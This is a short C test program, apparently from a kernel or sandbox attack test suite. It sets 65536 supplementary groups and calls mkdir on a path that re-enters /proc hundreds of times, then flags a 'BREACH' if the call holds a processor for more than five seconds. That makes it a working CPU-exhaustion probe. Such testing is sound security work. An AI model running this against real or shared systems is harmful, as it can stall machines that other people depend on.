/* procwalk: a caller with as many groups as possible, with a path that enters the procfs as often as a path can. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <grp.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define TIMES 500
#define LONG_SECONDS 5

int main(void)
{
    static gid_t groups[65536];
    static char path[4096];
    struct timespec begin, end;

    for (int i = 0; i < 65536; i++)
        groups[i] = 1000000000u + (gid_t)i;
    for (int i = 0; i < TIMES; i++)
        strcpy(path + 8 * i, "/proc/..");
    strcat(path, "/proc/self/nothing/x");
    if (setgroups(65536, groups) < 0)
        fail("setgroups");
    clock_gettime(CLOCK_MONOTONIC, &begin);
    mkdir(path, 0755);
    saw("mkdir: error %d", errno);
    clock_gettime(CLOCK_MONOTONIC, &end);
    if (end.tv_sec - begin.tv_sec > LONG_SECONDS)
        saw("BREACH: it took a processor for %d s", (int)(end.tv_sec - begin.tv_sec));
    report();
    return 0;
}
